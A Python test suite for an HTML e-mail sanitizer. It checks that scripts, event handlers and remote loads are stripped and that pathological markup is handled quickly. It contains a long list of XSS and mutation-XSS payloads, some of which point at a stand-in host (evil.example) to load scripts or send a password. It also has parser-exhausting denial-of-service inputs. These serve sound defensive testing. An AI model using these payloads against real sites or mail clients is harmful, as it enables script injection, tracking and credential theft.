"""HTML mail: nothing executable survives, nothing is loaded, and no text takes long."""

import lxml.html
import pytest
from hypothesis import given
from hypothesis import strategies as st

from server.mail.html import LARGEST, NOTE_COMPLEX, NOTE_LARGE, safe_html, text_of
from server.mail.html_shape import is_cheap
from tests.mail.timing import least_time

LIMIT = 0.25  # seconds
TAGS = set(
    "a abbr acronym article aside b bdi bdo big blockquote br caption center cite code col colgroup data "
    "dd del details dfn  div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hgroup hr i "
    "img ins kbd li mark nav ol p pre q rp  rt rtc ruby s samp small span strike strong sub summary sup "
    "table tbody td tfoot th thead time tr tt u ul var".split()
)

# After the OWASP filter evasion cheat sheet, DOMPurify's test set and published mutation XSS.
XSS = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<<script>alert(1);//<</script>",
    "<script/src=//evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    '<img """><script>alert(1)</script>">',
    "<img src=`javascript:alert(1)`>",
    "<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    '<img src="jav\tascript:alert(1)">',
    '<img src=" &#14; javascript:alert(1);">',
    "<img srcset='https://evil.example/a.png 1x' src='https://evil.example/b.png'>",
    "<img lowsrc=https://evil.example/a dynsrc=https://evil.example/b>",
    "<picture><source srcset=https://evil.example/c></picture>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="https://x.example" onclick="alert(1)" style="position:fixed">x</a>',
    '<a href="https://x.example" target="_self" rel="opener">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
    '<textarea><img title="</textarea><img src onerror=alert(1)>"></textarea>',
    '<xmp><img title="</xmp><img src onerror=alert(1)>"></xmp>',
    '<title><img title="</title><img src onerror=alert(1)>"></title>',
    "<select><style><img src=x onerror=alert(1)></style></select>",
    "<table><td background=javascript:alert(1)>x</td></table>",
    "<body onload=alert(1) background=javascript:alert(1)>x",
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="background-image:url(https://evil.example/t.png)">x</div>',
    '<div style="color:\\65xpression(alert(1))">x</div>',
    '<div style="color:/**/expression/**/(alert(1))">x</div>',
    '<div style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</div>',
    "<div style=\"font-family:'x;} body{background:url(https://evil.example)'\">x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(https://evil.example)}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/"><a href="x">y</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    '<embed src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<applet code=x.class></applet>",
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video src=https://evil.example/v onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a autoplay></audio>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img id=location name=cookie src=cid:x>",
    '<a href="https://x.example"><img src="cid:a" usemap="#m"></a><map name=m><area href=javascript:alert(1)></map>',
    '<p id="x" class="y" contenteditable accesskey=a tabindex=1>x</p>',
    "<custom-element onclick=alert(1) is=x>x</custom-element>",
    "\0<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='cid:x'>x</a><img src='cid:x' alt='&quot;&gt;&lt;script&gt;'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    '<p title="&lt;/p&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>',
]


def assert_harmless(html: str) -> None:
    """Every element and attribute of the text, as an independent parser sees it, is one of the few that are allowed."""
    for element in lxml.html.fragment_fromstring(html, create_parent="div").iter():
        assert element.tag in TAGS, element.tag
        for name, value in element.attrib.items():
            assert_attribute_harmless(str(element.tag), name, value)


def assert_attribute_harmless(tag: str, name: str, value: str) -> None:
    assert not name.startswith("on")
    assert name not in ("id", "name", "class", "srcset", "background", "action", "formaction", "data", "is", "usemap")
    if name == "href":
        assert value.lower().startswith(("https://", "http://", "mailto:", "tel:"))
    if name == "src":
        assert (tag, value[:4].lower()) == ("img", "cid:")
    if name == "style":
        assert not any(
            sign in value.lower() for sign in ("url", "expression", "\\", "/*", "@", "position", "behavior", "{")
        )
    if tag == "a" and name == "rel":
        assert set(value.split()) == {"noopener", "noreferrer"}


@pytest.mark.parametrize("hostile", XSS)
def test_nothing_executable_is_left(hostile: str) -> None:
    for html in (
        hostile,
        f"<p>before</p>{hostile}<p>after</p>",
        f"<table><tr><td>{hostile}",
        f"<div title='{hostile}'>x",
    ):
        cleaned, _ = safe_html(html)
        assert_harmless(cleaned)
        again, _ = safe_html(cleaned)
        assert_harmless(again)


@given(
    st.lists(st.sampled_from([*XSS, "<p>", "</p>", "<table>", "</svg>", "<math>", "-->", "<style>", "</style>", '"']))
)
def test_nothing_executable_is_left_of_mixtures(pieces: list[str]) -> None:
    assert_harmless(safe_html("".join(pieces))[0])


def test_ordinary_mail_keeps_its_layout() -> None:
    html = (
        '<table width="100%" bgcolor="#eee"><tr><td style="color: #333; padding: 4px" valign="top"><b>Hello</b> '
        '<font color="red">you</font><br><a href="https://x.example/a?b=1&amp;c=2">link</a>'
        '<img src="cid:logo@1" alt="Logo" width="20"></td></tr></table>'
    )
    cleaned, note = safe_html(html)
    assert note is None
    for kept in (
        "<table",
        'width="100%"',
        "color:#333",
        "<b>Hello</b>",
        'src="cid:logo@1"',
        'alt="Logo"',
        "b=1&amp;c=2",
    ):
        assert kept in cleaned.replace("color: ", "color:")
    assert 'rel="noopener noreferrer"' in cleaned


def test_pictures_from_the_web_keep_their_alternative_text_only() -> None:
    cleaned, _ = safe_html('<img src="https://evil.example/pixel.gif" alt="A roof" width="1">')
    assert "evil" not in cleaned
    assert 'alt="A roof"' in cleaned


MILLION = 1_000_000
FORMATS = "".join(f"<b id={each}>" for each in range(300))
HEAVY = {
    "100,000 nested divs": "<div>" * 100_000 + "Hello",
    "10 MB of style": '<p style="' + "color:red;" * MILLION + '">Hello</p>',
    "1,000,000 attributes": "<a " + " ".join(f"a{each}" for each in range(MILLION)) + ">Hello",
    "100,000 attributes": "<a " + " ".join(f"a{each}" for each in range(100_000)) + ">Hello",
    "nested spans that close wrongly": "<span><div></span></div>" * 40_000,
    "elements closed from within an object": "<div><object></div></object>" * 30_000,
    "formatting that is opened again": f"<div>{FORMATS}</div>" + "<div>x</div>" * 3000,
    "cells without a table": "<tr><td><font color=red><b>x</td></tr>" * 5000,
    "items within definitions": "<dd></ul><li>" * 15_000,
    "a hidden quote": "<i =>" + '<i =">' + "<div>" * 30_000 + '">',
    "a hidden script": "<script><!--<script></script>" + "<div>" * 30_000,
    "styles in a drawing": "<svg><style>" + "<div>" * 30_000,
    "1,000,000 brackets": "<" * 1_000_000,
    "comments that do not end": "<!--" * 200_000,
    "tags that do not end": "<a " * 300_000,
    "scripts that do not begin": "<script" * 140_000,
    "scripts that do not end": "<script>" + "</script" * 120_000,
    "quotes that do not end": '<a href="' * 100_000,
}  # fmt: skip


@pytest.mark.parametrize("kind", HEAVY)
def test_no_html_takes_long(kind: str) -> None:
    (cleaned, note), took = least_time(LIMIT, lambda: safe_html(HEAVY[kind]))
    assert took < LIMIT
    assert note in (NOTE_COMPLEX, NOTE_LARGE)
    assert_harmless(cleaned[:100_000])


@pytest.mark.parametrize(
    "html",
    [
        "<p>Hello <b>you</b></p>" * 10_000,
        "<table>" + "<tr><td><font color=red>x</td><td>y</tr>" * 5000 + "</table>",
        "<div>" * 30 + "<p>x" * 20_000 + "</div>" * 30,
        "<b><i>x</b></i>" * 1000,
        "<ul>" + "<li>x" * 10_000 + "</ul>",
        "<style>" + "a > b { color: red }" * 40_000 + "</style>x",
    ],
)
def test_big_but_ordinary_html_keeps_its_layout(html: str) -> None:
    assert len(html) < LARGEST
    assert is_cheap(html)


@given(st.text("<>/!-=\"' abp\n&;", max_size=200))
def test_no_text_raises(html: str) -> None:
    is_cheap(html)
    text_of(html)
    assert_harmless(safe_html(html)[0])


def test_the_text_of_html_reads_like_the_page() -> None:
    html = (
        "<html><head><title>no</title><style>p{}</style></head><body><!-- no --><p>Dear&nbsp;Ria,</p>\n"
        "<p>one<br>two   three</p><table><tr><td>a</td><td>b</td></tr></table><script>no</script>"
        "5 &lt; 6 &amp; &euro;</body></html>"
    )
    assert text_of(html) == "Dear Ria,\n\none\ntwo three\n\na b\n\n5 < 6 & €"


def test_what_cannot_be_shown_is_shown_as_text() -> None:
    cleaned, note = safe_html("<div>" * 100_000 + "Hello &lt;you&gt;<br>bye")
    assert (cleaned, note) == ("<div>Hello &lt;you&gt;<br>\nbye</div>", NOTE_COMPLEX)
